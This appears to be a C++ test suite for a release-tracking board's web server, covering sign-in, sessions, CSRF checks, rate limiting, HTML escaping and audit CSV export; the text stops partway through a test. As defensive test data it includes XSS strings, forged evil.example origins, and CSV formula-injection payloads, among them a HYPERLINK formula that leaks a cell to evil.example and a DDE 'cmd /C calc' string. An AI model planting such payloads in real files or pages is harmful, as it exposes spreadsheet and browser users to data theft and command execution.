// The release board's pages, its sign-in, the audit export and the metrics, on the sample
// data; the pages are asked of the board directly, the metrics and the health check of a
// real server over HTTP.

#include "serverenv.h"
#include "serverprocess.h"

#include "board/audit.h"
#include "board/board.h"
#include "board/metrics.h"
#include "tools/admin.h"

#include <httplib.h>

#include <QCoreApplication>
#include <QCryptographicHash>
#include <QDate>
#include <QDateTime>
#include <QFile>
#include <QJsonDocument>
#include <QProcess>
#include <QRegularExpression>
#include <QSet>

#include <functional>

namespace {

const QByteArray kToken = "segredo-do-painel";

struct Page {
    int status = 0;
    std::string body;
    httplib::Headers headers;
    std::string header(const char *name) const
    {
        const auto it = headers.find(name);
        return it == headers.end() ? std::string() : it->second;
    }
    bool has(const QString &text) const { return QString::fromStdString(body).contains(text); }
    // "name=value" of the cookie `name` the answer sets.
    std::string setCookie(const std::string &name) const
    {
        const auto range = headers.equal_range("Set-Cookie");
        for (auto it = range.first; it != range.second; ++it) {
            if (it->second.rfind(name + "=", 0) == 0)
                return it->second.substr(0, it->second.find(';'));
        }
        return {};
    }
};

// The text between `before` and the next `after`.
std::string between(const std::string &text, const std::string &before, const std::string &after)
{
    const size_t start = text.find(before);
    if (start == std::string::npos)
        return {};
    const size_t end = text.find(after, start + before.size());
    return text.substr(start + before.size(), end - start - before.size());
}

class ServerBoard : public SampleServerTest {
protected:
    Page get(const std::string &path, const httplib::Headers &headers = {}, const httplib::Params &params = {})
    {
        return ask("GET", path, headers, params);
    }
    Page ask(const std::string &method, const std::string &path, const httplib::Headers &headers = {},
             const httplib::Params &params = {}, const std::string &address = "127.0.0.1")
    {
        return askOf(m_board, method, path, headers, params, address);
    }
    Page askOf(server::Board &board, const std::string &method, const std::string &path, const httplib::Headers &headers = {},
               const httplib::Params &params = {}, const std::string &address = "127.0.0.1")
    {
        httplib::Request req;
        req.method = method;
        req.path = path;
        req.headers = headers;
        req.params = params;
        req.remote_addr = address;
        httplib::Response res;
        board.serve(db(), req, res);
        return {res.status, res.body, res.headers};
    }
    httplib::Headers bearer() const { return {{"Authorization", "Bearer " + kToken.toStdString()}}; }
    // The sign-in form's post, as the browser sends it from the board's page.
    Page postSignIn(const std::string &token, const std::string &address = "127.0.0.1", server::Board *board = nullptr,
                    const std::string &operatorCode = {})
    {
        server::Board &to = board ? *board : m_board;
        const Page form = askOf(to, "GET", "/painel", {}, {}, address);
        return askOf(to, "POST", "/painel/entrar",
                     {{"Host", "painel.exemplo:8090"}, {"Origin", "http://painel.exemplo:8090"}, {"Cookie", form.setCookie("homologa_entrada")}},
                     {{"token", token}, {"operador", operatorCode},
                      {"antifalsificacao", between(form.body, "name=\"antifalsificacao\" value=\"", "\"")}},
                     address);
    }
    // Signs in; the header that carries the session's cookie.
    httplib::Headers cookie(const std::string &address = "127.0.0.1")
    {
        const Page signedIn = postSignIn(kToken.toStdString() + "\n", address);
        EXPECT_EQ(signedIn.status, 303) << signedIn.body;
        return {{"Cookie", "x=1; " + signedIn.setCookie("homologa_painel")}};
    }

    // The codes of the groups whose cards are in the board's column of `phase`.
    QStringList cardsIn(const Page &page, const QString &phase)
    {
        const QString html = QString::fromStdString(page.body);
        const qsizetype start = html.indexOf(QStringLiteral("data-fase=\"%1\"").arg(phase));
        if (start < 0)
            return {};
        const qsizetype end = html.indexOf(QStringLiteral("</section>"), start);
        QStringList codes;
        static const QRegularExpression card(QStringLiteral("data-grupo=\"(\\d+)\""));
        for (const QRegularExpressionMatch &m : card.globalMatch(html.mid(start, end - start)))
            codes.append(m.captured(1));
        return codes;
    }

    server::Metrics m_metrics;
    server::Board m_board{kToken, false, m_metrics};
};

TEST_F(ServerBoard, OnlyASignedInVisitorSeesData)
{
    const QString group = createGroup(QStringLiteral("Grupo visível só por dentro"));
    struct Case {
        const char *what;
        std::string path;
        httplib::Headers headers;
        int status;
        bool data;
    };
    const Case cases[] = {
        {"no credentials, the board", "/painel", {}, 200, false},
        {"no credentials, a group", "/painel/grupo/" + group.toStdString(), {}, 401, false},
        {"no credentials, the columns", "/painel/colunas", {}, 401, false},
        {"no credentials, the audit", "/painel/auditoria", {}, 401, false},
        {"a wrong cookie", "/painel", {{"Cookie", "homologa_painel=" + kToken.toStdString()}}, 200, false},
        {"an empty bearer token", "/painel", {{"Authorization", "Bearer "}}, 200, false},
        {"the bearer token", "/painel", bearer(), 200, true},
        {"the sign-in cookie", "/painel", cookie(), 200, true},
        {"the sign-in cookie, a group", "/painel/grupo/" + group.toStdString(), cookie(), 200, true},
    };
    for (const Case &c : cases) {
        const Page page = get(c.path, c.headers);
        EXPECT_EQ(page.status, c.status) << c.what;
        EXPECT_EQ(page.has(QStringLiteral("Grupo visível só por dentro")), c.data) << c.what;
        if (!c.data && page.status != 401) {
            EXPECT_TRUE(page.has(QStringLiteral("name=\"token\""))) << c.what;
        }
    }
}

TEST_F(ServerBoard, SignInSetsAHardenedSessionCookie)
{
    const Page page = postSignIn(kToken.toStdString());
    EXPECT_EQ(page.status, 303);
    EXPECT_EQ(page.header("Location"), "/painel");
    const std::string session = page.setCookie("homologa_painel");
    const std::string id = session.substr(session.find('=') + 1);
    EXPECT_GE(id.size(), 40u);
    std::string attributes;
    for (auto it = page.headers.lower_bound("Set-Cookie"); it != page.headers.upper_bound("Set-Cookie"); ++it)
        attributes += it->second.rfind("homologa_painel=", 0) == 0 ? it->second : std::string();
    EXPECT_NE(attributes.find("HttpOnly"), std::string::npos);
    EXPECT_NE(attributes.find("SameSite=Strict"), std::string::npos);
    EXPECT_EQ(attributes.find("Secure"), std::string::npos) << "plain HTTP";
    EXPECT_EQ(attributes.find(kToken.toStdString()), std::string::npos) << "the token itself never goes into the cookie";
    // Each sign-in its own id, kept on the server only as its hash.
    EXPECT_NE(postSignIn(kToken.toStdString()).setCookie("homologa_painel"), session);
    EXPECT_EQ(db().scalar(QStringLiteral("SELECT COUNT(*) FROM SESSAOPAINEL")).toInt(), 2);
    EXPECT_EQ(db().scalar(QStringLiteral("SELECT COUNT(*) FROM SESSAOPAINEL WHERE CDSESSAO = ?"), {QString::fromStdString(id)}).toInt(), 0);

    // An operator may say who signs in; one that does not exist is refused.
    EXPECT_EQ(postSignIn(kToken.toStdString(), "127.0.0.1", nullptr, "0002").status, 303);
    EXPECT_EQ(postSignIn(kToken.toStdString(), "127.0.0.1", nullptr, "9999").status, 400);
    const QStringList sessions = server::sessionLines(db());
    EXPECT_EQ(sessions.size(), 4);
    EXPECT_EQ(sessions.filter(QStringLiteral("operador 0002")).size(), 1) << sessions.join(u'\n').toStdString();
    EXPECT_EQ(sessions.filter(QStringLiteral("visualizador do painel")).size(), 2);

    server::Board tlsBoard(kToken, true, m_metrics);
    const Page secure = postSignIn(kToken.toStdString(), "127.0.0.1", &tlsBoard);
    for (auto it = secure.headers.lower_bound("Set-Cookie"); it != secure.headers.upper_bound("Set-Cookie"); ++it)
        EXPECT_NE(it->second.find("; Secure"), std::string::npos) << it->second;
}

// A session lives from its sign-in until it is left idle, outlives its lifetime, is signed
// out or revoked; a copy of its cookie, sent from elsewhere, lives exactly as long.
TEST_F(ServerBoard, SessionsEnd)
{
    const QString group = createGroup(QStringLiteral("Grupo da sessão"));
    // What `sessions revoke` takes for the session of a cookie, and for another session.
    const auto idOf = [](const httplib::Headers &cookie) {
        const std::string value = cookie.find("Cookie")->second;
        return QString::fromLatin1(QCryptographicHash::hash(QByteArray::fromStdString(value.substr(value.find("homologa_painel=") + 16)),
                                                            QCryptographicHash::Sha256)
                                       .toHex()
                                       .left(12));
    };
    const auto age = [&](const char *column, int seconds) {
        db().exec(QStringLiteral("UPDATE SESSAOPAINEL SET %1 = ?").arg(QLatin1String(column)),
                  {QDateTime::currentDateTime().addSecs(seconds).toString(QStringLiteral("yyyy-MM-ddTHH:mm:ss"))});
    };
    struct Case {
        const char *what;
        std::function<void(const httplib::Headers &)> then;
        bool alive;
    };
    const Case cases[] = {
        {"in use", [](const httplib::Headers &) {}, true},
        {"idle, within the limit", [&](const httplib::Headers &) { age("DTULTIMOUSO", -60 * 60); }, true},
        {"idle past the limit", [&](const httplib::Headers &) { age("DTULTIMOUSO", -3 * 60 * 60); }, false},
        {"past its lifetime", [&](const httplib::Headers &) { age("DTEXPIRACAO", -1); }, false},
        {"signed out", [&](const httplib::Headers &c) { EXPECT_EQ(get("/painel/sair", c).status, 303); }, false},
        {"revoked", [&](const httplib::Headers &c) { EXPECT_EQ(server::revokeSessions(db(), idOf(c)), 1); }, false},
        {"another one revoked", [&](const httplib::Headers &) { EXPECT_EQ(server::revokeSessions(db(), idOf(cookie())), 1); }, true},
    };
    for (const Case &c : cases) {
        db().exec(QStringLiteral("DELETE FROM SESSAOPAINEL"));
        const httplib::Headers session = cookie();
        ASSERT_TRUE(get("/painel/grupo/" + group.toStdString(), session).has(QStringLiteral("Grupo da sessão"))) << c.what;
        c.then(session);
        // The cookie copied to another machine.
        const Page copied = ask("GET", "/painel/grupo/" + group.toStdString(), session, {}, "10.20.30.40");
        EXPECT_EQ(copied.status, c.alive ? 200 : 401) << c.what;
        EXPECT_EQ(copied.has(QStringLiteral("Grupo da sessão")), c.alive) << c.what;
    }
    // Ended sessions are not guesses: the address is not held back for them.
    EXPECT_EQ(m_board.limit().waitFor("10.20.30.40"), 0);
}

TEST_F(ServerBoard, SignInComesOnlyFromTheBoardsOwnForm)
{
    const Page form = get("/painel");
    const std::string formCookie = form.setCookie("homologa_entrada");
    const std::string value = between(form.body, "name=\"antifalsificacao\" value=\"", "\"");
    ASSERT_FALSE(value.empty());
    ASSERT_EQ(formCookie, "homologa_entrada=" + value);
    struct Case {
        const char *what;
        httplib::Headers headers;
        std::string field;
        int status;
    };
    const httplib::Headers host{{"Host", "painel.exemplo"}, {"Cookie", formCookie}};
    const auto with = [&](httplib::Headers headers, std::initializer_list<std::pair<std::string, std::string>> more) {
        headers.insert(more.begin(), more.end());
        return headers;
    };
    const Case cases[] = {
        {"from the board's page", with(host, {{"Origin", "http://painel.exemplo"}}), value, 303},
        {"its Referer, no Origin", with(host, {{"Referer", "https://painel.exemplo/painel"}}), value, 303},
        {"another site", with(host, {{"Origin", "http://evil.example"}}), value, 403},
        {"a site whose name begins like it", with(host, {{"Origin", "http://painel.exemplo.evil.example"}}), value, 403},
        {"an opaque origin", with(host, {{"Origin", "null"}}), value, 403},
        {"neither Origin nor Referer", host, value, 403},
        {"without the form's value", with(host, {{"Origin", "http://painel.exemplo"}}), "", 403},
        {"another form's value", with(host, {{"Origin", "http://painel.exemplo"}}), value + "x", 403},
        {"without the form's cookie", {{"Host", "painel.exemplo"}, {"Origin", "http://painel.exemplo"}}, value, 403},
    };
    for (const Case &c : cases) {
        for (int i = 0; i < (c.status == 403 ? 3 : 1); ++i) {
            const Page page = ask("POST", "/painel/entrar", c.headers, {{"token", kToken.toStdString()}, {"antifalsificacao", c.field}},
                                  "10.0.0.7");
            EXPECT_EQ(page.status, c.status) << c.what;
        }
    }
    // Forged posts do not count against the office's address.
    EXPECT_EQ(m_board.limit().waitFor("10.0.0.7"), 0);
}

// One limit for every door a token comes through, per client address: after the free
// failures the address waits, even with the right token; other addresses do not.
TEST_F(ServerBoard, WrongTokensAreLimitedAtEveryDoorPerAddress)
{
    const std::string right = kToken.toStdString();
    server::Board proxied(kToken, false, m_metrics, nullptr, "10.9.9.9");
    struct Door {
        const char *what;
        std::function<int(const std::string &token, const std::string &peer, const std::string &forwarded)> present;
        int wrong;  // the answer to a wrong token
        int rightOk;
    };
    const auto bearerOn = [&](const std::string &path, server::Board &board) {
        return [&, path](const std::string &token, const std::string &peer, const std::string &forwarded) {
            httplib::Headers headers{{"Authorization", "Bearer " + token}};
            if (!forwarded.empty())
                headers.emplace("X-Forwarded-For", forwarded);
            return askOf(board, "GET", path, headers, {}, peer).status;
        };
    };
    const Door doors[] = {
        {"the sign-in form", [&](const std::string &token, const std::string &peer, const std::string &) { return postSignIn(token, peer).status; }, 401, 303},
        {"Bearer on the metrics", bearerOn("/metricas", m_board), 401, 200},
        {"Bearer on the audit", bearerOn("/painel/auditoria", m_board), 401, 200},
        {"Bearer on the board", bearerOn("/painel", m_board), 200, 200},
        {"the session cookie",
         [&](const std::string &token, const std::string &peer, const std::string &) {
             return ask("GET", "/painel/colunas", token == right ? cookie("10.99.0.1") : httplib::Headers{{"Cookie", "homologa_painel=" + token}},
                        {}, peer)
                 .status;
         },
         401, 200},
        {"behind the trusted proxy", bearerOn("/metricas", proxied), 401, 200},
    };
    int n = 0;
    for (const Door &door : doors) {
        const bool proxy = std::string(door.what).find("proxy") != std::string::npos;
        const std::string address = "192.0.2." + std::to_string(++n);
        const std::string peer = proxy ? "10.9.9.9" : address;
        const std::string forwarded = proxy ? "198.51.100.1, " + address : std::string();
        for (int i = 0; i < server::AttemptLimit::kFreeFailures; ++i)
            EXPECT_EQ(door.present("errado", peer, forwarded), door.wrong) << door.what;
        EXPECT_EQ(door.present(right, peer, forwarded), 429) << door.what << ": the right token waits too";
        EXPECT_EQ(door.present(right, proxy ? peer : "192.0.2.200", proxy ? "198.51.100.1, 192.0.2.201" : std::string()), door.rightOk)
            << door.what << ": another address";
    }
    // An address named by a peer that is not the trusted proxy is not believed.
    EXPECT_EQ(askOf(proxied, "GET", "/metricas", {{"Authorization", "Bearer " + right}, {"X-Forwarded-For", "192.0.2.6"}}, {}, "10.8.8.8").status,
              200);
}

TEST(AttemptLimit, WaitsGrowWithEachFailure)
{
    server::AttemptLimit limit;
    const int waits[] = {0, 0, 0, 0, 1, 2, 4, 8};
    for (int wait : waits) {
        limit.failed("a");
        EXPECT_EQ(limit.waitFor("a"), wait);
        EXPECT_EQ(limit.waitFor("b"), 0);
    }
    limit.succeeded("a");
    EXPECT_EQ(limit.waitFor("a"), 0);
}

TEST(BearerToken, SchemeInAnyCaseAndBlanksAsHttpAllows)
{
    const std::pair<const char *, const char *> cases[] = {
        {"Bearer abc", "abc"},  {"bearer abc", "abc"},   {"BEARER abc", "abc"}, {"Bearer  abc", "abc"},
        {" Bearer abc ", "abc"}, {"Bearer\tabc", "abc"}, {"Bearer", nullptr},    {"Bearer ", nullptr},
        {"Bearerabc", nullptr}, {"Basic abc", nullptr},  {"Bearer a\x01" "b", nullptr},
    };
    for (const auto &[header, token] : cases) {
        const auto parsed = server::bearerToken(header);
        EXPECT_EQ(parsed.has_value(), token != nullptr) << header;
        if (parsed && token) {
            EXPECT_EQ(std::string(*parsed), token) << header;
        }
    }
}

TEST_F(ServerBoard, TextsFromTheDatabaseAreEscaped)
{
    const QString group = createGroup(QStringLiteral("<script>alert(1)</script>"));
    addRequests(group, {QStringLiteral("0000000101")});
    db().exec(QStringLiteral("INSERT INTO JUSTIFICATIVA (CDFILIAL, CDGRUPHOMOL, NRSOLISERV, CDOPERADOR, DSALTPROCHOMOL, DTJUSTIFICATIVA) "
                             "VALUES ('0001', ?, '0000000101', '0001', ?, '2026-12-01T10:00:00')"),
              {group, QStringLiteral("\"><img src=x onerror=alert(2)>")});
    for (const std::string &path : {std::string("/painel"), "/painel/grupo/" + group.toStdString(), std::string("/painel/colunas")}) {
        const Page page = get(path, cookie());
        EXPECT_EQ(page.status, 200) << path;
        EXPECT_FALSE(page.has(QStringLiteral("<script>alert"))) << path;
        EXPECT_FALSE(page.has(QStringLiteral("<img src=x"))) << path;
        EXPECT_TRUE(page.has(QStringLiteral("&lt;script&gt;alert(1)&lt;/script&gt;"))) << path;
    }
    EXPECT_TRUE(get("/painel/grupo/" + group.toStdString(), cookie()).has(QStringLiteral("&quot;&gt;&lt;img src=x")));
    const Page missing = get("/painel/grupo/%3Cb%3E<b>", cookie());
    EXPECT_EQ(missing.status, 404);
    EXPECT_FALSE(missing.has(QStringLiteral("<b>")));
}

TEST_F(ServerBoard, EachGroupIsInTheColumnOfItsPhaseAndClosedOnesInTheHistory)
{
    const QString pending = createGroup(QStringLiteral("Pendente"));
    const QString moving = createGroup(QStringLiteral("Andando"));
    advance(moving);
    ok(QStringLiteral("setLogTram"), args({QStringLiteral("0001"), moving, QStringLiteral("001"), QStringLiteral("002"), QStringLiteral("log")}));
    // An advance that writes no log is still its group's last transition, by its lease's holder.
    ok(QStringLiteral("takeGroupLease"), args({moving, QStringLiteral("002"), QStringLiteral("0001"), QStringLiteral("estacao")}));
    advance(moving);
    Page page = get("/painel", cookie());
    EXPECT_EQ(cardsIn(page, QStringLiteral("001")), QStringList{pending});
    EXPECT_EQ(cardsIn(page, QStringLiteral("003")), QStringList{moving});
    EXPECT_TRUE(page.has(QStringLiteral("Última tramitação: 002 → 003, por Ana Operadora"))) << page.body;
    int phaseEvents = 0;
    for (const server::AuditRow &row : server::auditTrail(db(), {}))
        phaseEvents += row.event.kind == server::eventKind::GroupPhase && row.event.group == moving ? 1 : 0;
    EXPECT_EQ(phaseEvents, 2) << "the transition log of 001 -> 002 is not a second event";
    EXPECT_EQ(page.header("Content-Security-Policy").find("'unsafe-inline'"), std::string::npos);
    EXPECT_NE(page.header("Content-Security-Policy").find("script-src 'self'"), std::string::npos);
    // Filtered by another product: no card.
    page = get("/painel", cookie(), {{"produto", "0000000002"}});
    EXPECT_TRUE(cardsIn(page, QStringLiteral("001")).isEmpty());

    // 21 closed groups: a full page, then one on the next.
    for (int i = 1; i <= server::Board::kHistoryPageSize + 1; ++i)
        db().exec(QStringLiteral("INSERT INTO GRUPOHOMOL (CDGRUPHOMOL, DSGRUPHOMOL, CDPRODUTO, IDSTGRUPHOM, DTHRHOMOGRUPSOL) "
                                 "VALUES (?, ?, ?, '007', ?)"),
                  {QStringLiteral("9%1").arg(i, 9, 10, QLatin1Char('0')), QStringLiteral("Encerrado %1").arg(i), kProduct,
                   QStringLiteral("2026-11-%1T10:00:00").arg(i, 2, 10, QLatin1Char('0'))});
    const Page first = get("/painel/historico", cookie());
    const Page second = get("/painel/historico", cookie(), {{"pagina", "2"}});
    EXPECT_TRUE(first.has(QStringLiteral("Encerrado 21<")));
    EXPECT_FALSE(first.has(QStringLiteral("Encerrado 1<")));
    EXPECT_TRUE(first.has(QStringLiteral("pagina=2")));
    EXPECT_TRUE(second.has(QStringLiteral("Encerrado 1<")));
    EXPECT_FALSE(second.has(QStringLiteral("pagina=3")));
    EXPECT_TRUE(cardsIn(get("/painel", cookie()), QStringLiteral("006")).isEmpty());
}

// Each column shows its newest groups and links to the rest; a refresh gets nothing when
// nothing changed, and only the changed columns after a change.
TEST_F(ServerBoard, ColumnsShowTheNewestAndRefreshOnlyWhatChanged)
{
    QStringList codes;
    for (int i = 0; i < server::Board::kCardsPerColumn + 2; ++i)
        codes.prepend(createGroup(QStringLiteral("Grupo %1").arg(i)));
    const httplib::Headers session = cookie();
    const Page board = get("/painel", session);
    EXPECT_EQ(cardsIn(board, QStringLiteral("001")), codes.mid(0, server::Board::kCardsPerColumn));
    EXPECT_TRUE(board.has(QStringLiteral("(%1)").arg(codes.size())));
    EXPECT_TRUE(board.has(QStringLiteral("href=\"/painel/fase/001\">Mais 2 grupos nesta fase")));
    const Page rest = get("/painel/fase/001", session);
    EXPECT_TRUE(rest.has(codes.last()) && rest.has(codes.first())) << rest.body;

    QStringList versions;
    static const QRegularExpression section(QStringLiteral("data-fase=\"(\\d+)\" data-versao=\"(\\w+)\""));
    for (const QRegularExpressionMatch &m : section.globalMatch(QString::fromStdString(board.body)))
        versions.append(m.captured(1) + u':' + m.captured(2));
    ASSERT_EQ(versions.size(), 6);
    const httplib::Params known{{"versoes", versions.join(u',').toStdString()}};
    const Page columns = get("/painel/colunas", session, known);
    EXPECT_EQ(columns.status, 200);
    EXPECT_TRUE(columns.body.empty()) << "the page has every column";
    httplib::Headers tagged = session;
    tagged.emplace("If-None-Match", columns.header("ETag"));
    EXPECT_EQ(get("/painel/colunas", tagged, known).status, 304);
    advance(codes.first());
    const Page changed = get("/painel/colunas", tagged, known);
    EXPECT_EQ(changed.status, 200);
    EXPECT_EQ(cardsIn(changed, QStringLiteral("002")), QStringList{codes.first()});
    EXPECT_EQ(QString::fromStdString(changed.body).count(QStringLiteral("<section")), 2) << "001 and 002 only";
    // A change made through another connection (another server, a command) is seen too.
    if (!testingPostgres()) {
        const std::unique_ptr<server::Database> other = database().connect();
        other->ensureOpen();
        other->exec(QStringLiteral("UPDATE GRUPOHOMOL SET DSGRUPHOMOL = 'Renomeado por fora' WHERE CDGRUPHOMOL = ?"), {codes.first()});
        EXPECT_TRUE(get("/painel/colunas", tagged, known).has(QStringLiteral("Renomeado por fora")));
    }
}

// A page number from the address is kept within the pages there are before it reaches SQL.
TEST_F(ServerBoard, HistoryPagesAtTheBounds)
{
    for (int i = 1; i <= server::Board::kHistoryPageSize + 1; ++i)
        db().exec(QStringLiteral("INSERT INTO GRUPOHOMOL (CDGRUPHOMOL, DSGRUPHOMOL, CDPRODUTO, IDSTGRUPHOM, DTHRHOMOGRUPSOL) "
                                 "VALUES (?, ?, ?, '007', ?)"),
                  {QStringLiteral("9%1").arg(i, 9, 10, QLatin1Char('0')), QStringLiteral("Encerrado %1").arg(i), kProduct,
                   QStringLiteral("2026-11-%1T10:00:00").arg(i, 2, 10, QLatin1Char('0'))});
    struct Case {
        const char *pagina;
        int shown;
    };
    const Case cases[] = {
        // Before the first page, or no number at all: the first.
        {"0", 1}, {"-1", 1}, {"-2147483648", 1}, {"abc", 1}, {"99999999999", 1},
        // The pages there are.
        {"1", 1}, {"2", 2},
        // Past the last, up to where page × size overflowed: the last.
        {"3", 2}, {"107374184", 2}, {"2147483647", 2},
    };
    for (const Case &c : cases) {
        const Page page = get("/painel/historico", cookie(), {{"pagina", c.pagina}});
        EXPECT_EQ(page.status, 200) << c.pagina;
        EXPECT_TRUE(page.has(QStringLiteral("(página %1)").arg(c.shown))) << c.pagina;
        EXPECT_EQ(page.has(QStringLiteral("pagina=%1\"").arg(c.shown + 1)), c.shown == 1) << c.pagina;
        EXPECT_EQ(page.has(QStringLiteral("pagina=%1\"").arg(c.shown - 1)), c.shown == 2) << c.pagina;
        EXPECT_EQ(page.has(QStringLiteral("Encerrado 1<")), c.shown == 2) << c.pagina;
    }
}

// Anyone may ask for the health, and is told the status alone; the token also gets the reason.
TEST_F(ServerBoard, HealthTellsTheReasonOnlyWithTheToken)
{
    // A database that cannot be reached: its user and host must not reach an anonymous asker.
    server::Database unreachable(server::DatabaseSpec::parse(QStringLiteral("postgresql://ninguem@127.0.0.1:1/nenhum")));
    struct Case {
        server::Database *database;
        bool token;
        int status;
        std::string body;  // exactly, or the start of the answer with the token
    };
    const Case cases[] = {
        {&db(), false, 200, R"({"ok":true,"status":"ok"})"},
        {&db(), true, 200, R"({"ok":true,"status":"ok"})"},
        {&unreachable, false, 503, R"({"ok":false,"status":"indisponivel"})"},
        {&unreachable, true, 503, R"({"error":"Não foi possível abrir o banco de dados PostgreSQL ninguem@127.0.0.1:1/nenhum)"},
    };
    for (const Case &c : cases) {
        httplib::Request req;
        req.method = "GET";
        req.path = "/saude";
        if (c.token)
            req.headers = bearer();
        httplib::Response res;
        m_board.serve(*c.database, req, res);
        EXPECT_EQ(res.status, c.status) << c.body;
        if (c.token && c.status != 200)
            EXPECT_EQ(res.body.rfind(c.body, 0), 0u) << res.body;
        else
            EXPECT_EQ(res.body, c.body);
    }
}

TEST_F(ServerBoard, NothingOnTheBoardWrites)
{
    const QString group = createGroup(QStringLiteral("Só leitura"));
    const auto counts = [&] {
        QStringList values;
        for (const char *table : {"GRUPOHOMOL", "SOLIGRUPO", "EVENTO", "LOGTRAM", "JUSTIFICATIVA"})
            values.append(db().scalar(QStringLiteral("SELECT COUNT(*) FROM %1").arg(QString::fromLatin1(table))).toString());
        return values;
    };
    const QStringList before = counts();
    for (const char *method : {"POST", "PUT", "DELETE"})
        EXPECT_EQ(ask(method, "/painel/grupo/" + group.toStdString(), cookie()).status, 405) << method;
    for (const std::string path : {"/painel", "/painel/colunas", "/painel/historico", "/painel/auditoria", "/metricas", "/saude"})
        EXPECT_LT(get(path, cookie()).status, 400) << path;
    EXPECT_EQ(counts(), before);
}

// Audit rows as CSV: a spreadsheet set up for Portuguese opens it as it is. A field is
// quoted, its quotes doubled, when it holds anything that would split or end it.
TEST_F(ServerBoard, AuditCsvQuotesWhatWouldSplitAField)
{
    const struct {
        const char *detail, *written;
    } cases[] = {
        {"testado sem erro", "testado sem erro"},
        {"testado; ok", "\"testado; ok\""},
        {"testado \"ok\"", "\"testado \"\"ok\"\"\""},
        {"testado\nsegunda linha", "\"testado\nsegunda linha\""},
        {"testado\rsegunda linha", "\"testado\rsegunda linha\""},
        {"testado; \"ok\"\r\nsegunda linha", "\"testado; \"\"ok\"\"\r\nsegunda linha\""},
    };
    for (const auto &c : cases) {
        const QList<server::AuditRow> rows{{QStringLiteral("2026-12-01T10:00:00"),
                                            {server::eventKind::Justification, QStringLiteral("0001"), QStringLiteral("0000000001"),
                                             kProduct, kBranch, QStringLiteral("0000000101"), {}, {}, QString::fromUtf8(c.detail)}}};
        const QByteArray csv = server::auditCsv(rows);
        EXPECT_TRUE(csv.startsWith("\xEF\xBB\xBF" "Data e hora;Evento;"));
        EXPECT_TRUE(csv.contains("\r\n2026-12-01 10:00:00;justificativa;0001;"));
        EXPECT_TRUE(csv.endsWith(';' + QByteArray(c.written) + "\r\n")) << c.detail << " -> " << csv.toStdString();
    }
    EXPECT_EQ(server::auditCsv({}).count("\r\n"), 1);
}

// A field a spreadsheet would evaluate is written as text; the JSON keeps it exact.
TEST(AuditCsv, NeutralisesWhatASpreadsheetWouldEvaluate)
{
    const std::pair<QString, QString> cases[] = {
        {QStringLiteral("=HYPERLINK(\"http://evil.example/?d=\"&A1;\"ver\")"),
         QStringLiteral("\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1;\"\"ver\"\")\"")},
        {QStringLiteral("@SUM(1+1)"), QStringLiteral("'@SUM(1+1)")},
        {QStringLiteral("+cmd|' /C calc'!A0"), QStringLiteral("'+cmd|' /C calc'!A0")},
        {QStringLiteral("-2+3"), QStringLiteral("'-2+3")},
        {QStringLiteral("\tSUM(A1)"), QStringLiteral("'\tSUM(A1)")},
        {QStringLiteral("\r=1"), QStringLiteral("\"'\r=1\"")},
        {QStringLiteral("a=b+c"), QStringLiteral("a=b+c")},
        {QStringLiteral("testado, ok"), QStringLiteral("testado, ok")},
    };
    for (const auto &[text, field] : cases) {
        const QList<server::AuditRow> rows{{QStringLiteral("2026-12-01T10:00:00"),
                                            {server::eventKind::Justification, {}, {}, {}, {}, {}, {}, {}, text}}};
        EXPECT_TRUE(QString::fromUtf8(server::auditCsv(rows)).endsWith(u';' + field + QStringLiteral("\r\n"))) << text.toStdString();
        EXPECT_EQ(QJsonDocument::fromJson(server::auditJson(rows)).array()[0][QStringLiteral("detalhe")].toString(), text);
    }
}

// The homologation names its operator for every group it changes: the one it closes and
// the ones of the same release it sends back, with their requests.
TEST_F(ServerBoard, AuditNamesTheOperatorOfAGroupSentBack)
{
    const QString closing = createGroup(QStringLiteral("Homologado"));
    const QString sentBack = createGroup(QStringLiteral("Devolvido"));
    addRequests(sentBack, {QStringLiteral("0000000102")});
    const QMap<QString, QVariant> release{{QStringLiteral("CDRELEASEGHOM"), QStringLiteral("501023")}};
    advance(closing, release);
    advance(sentBack, release);
    for (int i = 0; i < 4; ++i)
        advance(closing);
    ok(QStringLiteral("takeGroupLease"), args({closing, QStringLiteral("006"), QStringLiteral("0002"), QStringLiteral("estacao")}));
    ok(QStringLiteral("Encerra_Grupos"), args({closing + u','}));
    int named = 0;
    for (const server::AuditRow &row : server::auditTrail(db(), {{}, {}, {}, sentBack})) {
        const server::Event &e = row.event;
        if (e.after.startsWith(QStringLiteral("001 ")) || e.detail.contains(QStringLiteral("voltou à fase inicial"))) {
            EXPECT_EQ(e.operatorCode, QStringLiteral("0002")) << e.kind.toStdString();
            ++named;
        }
    }
    EXPECT_EQ(named, 2) << "the group's phase and its request's";
    EXPECT_TRUE(get("/painel", cookie()).has(QStringLiteral("002 → 001, por Bruno Consulta")));
}

// A group's page tells its whole story in time order, with who did each thing; a log and a
// phase change of the same advance are one row, and a group that went the same way twice
// keeps both.
TEST_F(ServerBoard, GroupTimelineInTimeOrder)
{
    const QString group = createGroup(QStringLiteral("Linha do tempo"));
    const auto event = [&](const char *time, const QString &kind, const QString &op, const QString &before, const QString &after,
                           const QString &detail = {}) {
        db().exec(QStringLiteral("INSERT INTO EVENTO (DTEVENTO, TPEVENTO, CDOPERADOR, CDGRUPHOMOL, CDPRODUTO, CDFILIAL, NRSOLISERV, "
                                 "DSANTES, DSDEPOIS, TXDETALHE) VALUES (?, ?, ?, ?, ?, '0001', '0000000101', ?, ?, ?)"),
                  {QString::fromLatin1(time), kind, op, group, kProduct, before, after, detail});
    };
    const auto log = [&](const char *time, const QString &from, const QString &to) {
        db().exec(QStringLiteral("INSERT INTO LOGTRAM (CDGRUPHOMOL, NRSEQLOG, CDOPERADOR, DTLOGTRAM, IDSTGRUPANT, IDSTGRUPNOVO, TXLOGTRAM) "
                                 "VALUES (?, (SELECT COALESCE(MAX(NRSEQLOG), 0) + 1 FROM LOGTRAM), '0001', ?, ?, ?, 'log')"),
                  {group, QString::fromLatin1(time), from, to});
    };
    const QString p1 = QStringLiteral("001"), p2 = QStringLiteral("002");
    db().exec(QStringLiteral("DELETE FROM EVENTO WHERE CDGRUPHOMOL = ?"), {group});
    log("2026-11-01T09:00:05", p1, p2);  // the first advance's log
    event("2026-11-01T09:00:00", server::eventKind::GroupPhase, {}, p1, p2);
    event("2026-11-02T10:00:00", server::eventKind::Tag, QStringLiteral("0002"), {}, QStringLiteral("TST_1"));
    event("2026-11-03T10:00:00", server::eventKind::GroupPhase, QStringLiteral("0001"), p2, p1);
